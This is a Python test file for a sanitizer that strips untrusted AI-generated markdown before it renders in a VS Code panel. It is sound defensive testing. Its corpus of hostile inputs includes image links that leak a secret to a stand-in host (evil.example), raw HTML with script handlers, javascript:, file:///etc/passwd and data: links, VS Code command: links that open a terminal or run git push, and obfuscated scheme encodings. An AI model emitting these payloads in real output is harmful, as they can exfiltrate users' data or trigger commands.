"""Model output is untrusted: `hearth.assist.sanitize` against a corpus of tricky markdown.

The oracle is a real CommonMark renderer (markdown-it-py, the Python port of the markdown-it
the VS Code panel uses) with raw HTML and every link scheme switched ON and GFM tables
enabled: whatever the sanitizer lets through must render without an <img>, without raw HTML
and without a link whose scheme is not http, https or mailto. Generated inputs (hypothesis)
splice the corpus's pieces together; streaming is checked as well: each `settled` prefix
extends the one before and ends up a prefix of the final text.
"""

from __future__ import annotations

import html
import os
import re
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hearth.assist.sanitize import Stream, sanitize, settled

markdown_it = pytest.importorskip(
    "markdown_it", reason="markdown-it-py (a dev dependency) renders the oracle"
)

EXAMPLES = int(
    os.environ.get("HEARTH_SANITIZE_EXAMPLES", "20000" if os.environ.get("HEARTH_SOAK") else "1500")
)


def _renderer() -> markdown_it.MarkdownIt:
    md = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table")
    md.validateLink = lambda url: True  # see every link, not only those markdown-it allows
    return md


MD = _renderer()


def _tokens(markdown: str) -> list[Any]:
    out = []
    for token in MD.parse(markdown):
        out.append(token)
        out.extend(token.children or [])
    return out


def problems(markdown: str) -> list[str]:
    """What a renderer would fetch, run or pass through from `markdown`: images, raw HTML
    (blocks and inline) and links whose scheme is not http, https or mailto."""
    out = []
    for token in _tokens(markdown):
        if token.type == "image":
            out.append(f"image {token.attrGet('src')}")
        elif token.type in ("html_block", "html_inline"):
            out.append(f"html {token.content[:30]!r}")
        elif token.type == "link_open":
            url = str(token.attrGet("href") or "").strip().lower()
            m = re.match(r"([a-z][a-z0-9+.\-]*):", url)
            if m and m.group(1) not in ("http", "https", "mailto"):
                out.append(f"link {url[:40]}")
    return out


ATTACKS = [
    # images
    "![x](http://evil.example/leak.png?q=secret)",
    "![](https://evil.example/a.png)",
    "![alt][img]\n\n[img]: http://evil.example/a.png",
    "![img]\n\n[img]: http://evil.example/a.png",
    "![img][]\n\n[img]: http://evil.example/a.png",
    "text ![x](<http://evil.example/a b.png>) text",
    "![x]( http://evil.example/a.png 'title' )",
    "[![x](http://evil.example/a.png)](https://ok.example)",
    "\\\\![x](http://evil.example/a.png)",
    "*![x](http://evil.example/a.png)*",
    "> ![x](http://evil.example/a.png)",
    "- ![x](http://evil.example/a.png)",
    "| a | b |\n|---|---|\n| ![x](http://evil.example/a.png) | c |",
    "# ![x](http://evil.example/a.png)",
    # raw HTML
    '<img src="http://evil.example/a.png">',
    "<IMG SRC=http://evil.example/a.png>",
    "<img\nsrc=http://evil.example/a.png>",
    '<a href="command:workbench.action.terminal.new">run</a>',
    "<svg><image href='http://evil.example/a.png'/></svg>",
    '<picture><source srcset="http://evil.example/a.png"></picture>',
    "<iframe src=http://evil.example></iframe>",
    "<!-- comment --><img src=x>",
    "<div>\n```\n<img src=x>\n```\n</div>",
    "<style>body{background:url(http://evil.example/a.png)}</style>",
    "text <img src=x onerror=alert(1)> text",
    # command and other scheme links
    "[run](command:workbench.action.terminal.new)",
    "[run](COMMAND:workbench.action.terminal.new)",
    "[run]( command:workbench.action.terminal.new )",
    "[run](command:git.push?%5B%5D 'push')",
    "[run](<command:workbench.action.terminal.new>)",
    "[run](comm&#97;nd:x)",
    "[run](command&#58;x)",
    "[run](command&colon;x)",
    "[run](command\\:x)",
    "[run](javascript:alert(1))",
    "[run](vscode://ms-python.python/x)",
    "[run](file:///etc/passwd)",
    "[run](data:text/html,<script>alert(1)</script>)",
    "[run][cmd]\n\n[cmd]: command:workbench.action.terminal.new",
    "[cmd]\n\n[cmd]: command:workbench.action.terminal.new",
    "[cmd][]\n\n[cmd]:\n  command:workbench.action.terminal.new",
    "[cmd]\n\n[cmd]: <command:workbench.action.terminal.new> 'title'",
    "[cmd]\n\n   [cmd]: command:x",
    "> [cmd]\n>\n> [cmd]: command:x",
    "<command:workbench.action.terminal.new>",
    "<javascript:alert(1)>",
    "<vscode://file/etc/passwd>",
    "[a](command:x)[b](command:y)",
    "[a\n](command:x)",
    "[a](\ncommand:x)",
    "[a](command:x\n'title')",
    "[link with `code`](command:x)",
    # code spans and fences that try to hide the rest
    "[a](http://ok.example/`) ![x](http://evil.example/a.png) `",
    "[a](http://ok.example 'a`b') ![x](http://evil.example/a.png) `",
    "x](http://ok.example 'a [b](command:y) c')",
    "<1`@x.co> ![i](http://evil.example/a.png) `",
    "`a\n\n![i](http://evil.example/a.png)`",
    "| `a | ![i](http://evil.example/a.png) ` |\n|---|---|\n| c | d |",
    "`|`<a href='command:x'>`",
    "`\n`<a href='command:x'>`",
    "a\n  ```*![x](http://evil.example/a.png)\\|<\\|    @\n|---|",
    "|*`'><'>~|](@```-)````1](````<img src=x>",
    "```\ncode\n    ```\n```\n![i](http://evil.example/a.png)",
    "- a\n  ```\n```\n<img src=x>\n```\n![i](http://evil.example/a.png)",
    "- a\n  ```\n     ```\n![i](http://evil.example/a.png)",
    "a `b\nc` ![i](http://evil.example/a.png) `",
    "a | b\n--|--\n`|` x `![i](http://evil.example/a.png)` | c",
    "- a\n  ```\n  code\n![i](http://evil.example/a.png)\n",
    "  ```\ncode\n```\n![i](http://evil.example/a.png)",
    "```\ncode\n```\n![i](http://evil.example/a.png)",
    "~~~\n~~~~\n![i](http://evil.example/a.png)",
    "````\n```\n````\n![i](http://evil.example/a.png)",
    "```js`\n![i](http://evil.example/a.png)\n```",
    "\\`![i](http://evil.example/a.png)`",
    "``![i](http://evil.example/a.png)`",
    "[l]: http://ok.example/`\n![i](http://evil.example/a.png)`",
    "[l]: http://ok.example 'a\n`b'\n![i](http://evil.example/a.png) `",
    "a\r![i](http://evil.example/a.png)",
    "```\rcode\r```\r![i](http://evil.example/a.png)",
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
]

BENIGN = [
    ("The function returns `a + b`.", "The function returns `a + b`."),
    ("Use `List<String>` here.", "Use `List<String>` here."),
    ('```html\n<img src="logo.png">\n```', '```html\n<img src="logo.png">\n```'),
    ("See [the docs](https://docs.python.org/3/).", "See [the docs](https://docs.python.org/3/)."),
    ("Mail [me](mailto:a@b.c).", "Mail [me](mailto:a@b.c)."),
    ("Compare x < y and y > z.", "Compare x < y and y > z."),
    ("- one\n- two\n\n1. a\n2. b", "- one\n- two\n\n1. a\n2. b"),
    ("**bold** and _em_ and [rel](#anchor)", "**bold** and _em_ and [rel](#anchor)"),
    ("`` `x` ``", "`` `x` ``"),
]


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_render_without_images_html_or_unsafe_links(text: str) -> None:
    assert problems(text) or "\x1b" in text, f"the corpus entry is harmless: {text!r}"
    cleaned = sanitize(text)
    assert problems(cleaned) == [], (text, cleaned, MD.render(cleaned))
    assert sanitize(cleaned) == cleaned  # idempotent
    assert "\x1b" not in cleaned and "\x07" not in cleaned


@pytest.mark.parametrize(("text", "expected"), BENIGN)
def test_ordinary_explanations_pass_unchanged(text: str, expected: str) -> None:
    assert sanitize(text) == expected


def test_escapes_read_as_the_original_characters() -> None:
    # What the user sees once rendered: the text, not an image, link or tag.
    out = MD.render(sanitize("![x](http://e.example/a.png) and <b>hi</b> [r](command:x)"))
    assert "![x](http://e.example/a.png)" in html.unescape(out)
    assert "<b>hi</b>" in html.unescape(out)
    assert "[r](command:x)" in html.unescape(out)


def test_streaming_prefixes_only_grow() -> None:
    text = (
        "Here `List<String>` and ![x](http://e/a.png) then [r](command:x)\n"
        "```py\nprint('<img>')\n```\n[ok](https://ok.example 'a`b') <img src=x> done\n"
    )
    last = ""
    for i in range(len(text) + 1):
        now = settled(text[:i])
        assert now.startswith(last), (i, last, now)
        last = now
    assert sanitize(text).startswith(last)
    assert len(last) > len(text) // 2  # whole lines settle as they end
    stream = Stream()
    assert [stream.feed(ch) for ch in text][-1] == last  # token by token, the same


PIECES = [
    "![",
    "[",
    "]",
    "](",
    ")",
    "(",
    "]:",
    "<",
    ">",
    "`",
    "``",
    "```",
    "~~~",
    "\\",
    "!",
    "'",
    '"',
    "|",
    " ",
    "  ",
    "\n",
    "\n\n",
    "- ",
    "> ",
    "1. ",
    "http://e.example/a.png",
    "command:x",
    "javascript:y",
    "img src=x",
    "a@b.co",
    "&#58;",
    "x",
    "1",
    "@",
    "|---|",
    "- a\n  ```",
    "\n```\n",
    "````",
    "\t",
    "    ",
    "   ",
    "*",
    "<!--",
    "-->",
    "<a href='command:x'>",
    "[r](command:x)",
    "[r]: command:x",
    "mailto:a@b.co",
    "&colon;",
    "#",
]


@settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
    derandomize=True,
)
@given(st.lists(st.sampled_from(PIECES), min_size=1, max_size=24), st.data())
def test_generated_markdown_is_safe_and_streams_monotonically(
    pieces: list[str], data: st.DataObject
) -> None:
    text = "".join(pieces)
    cleaned = sanitize(text)
    assert problems(cleaned) == [], (text, cleaned, MD.render(cleaned))
    assert sanitize(cleaned) == cleaned
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=4)))
    last = ""
    stream, fed = Stream(), 0
    for cut in [*cuts, len(text)]:
        now = settled(text[:cut])
        assert now.startswith(last), (text, cut, last, now)
        assert stream.feed(text[fed:cut]) == now, (text, cut)  # chunk by chunk, the same
        fed, last = cut, now
    assert cleaned.startswith(last), (text, last, cleaned)
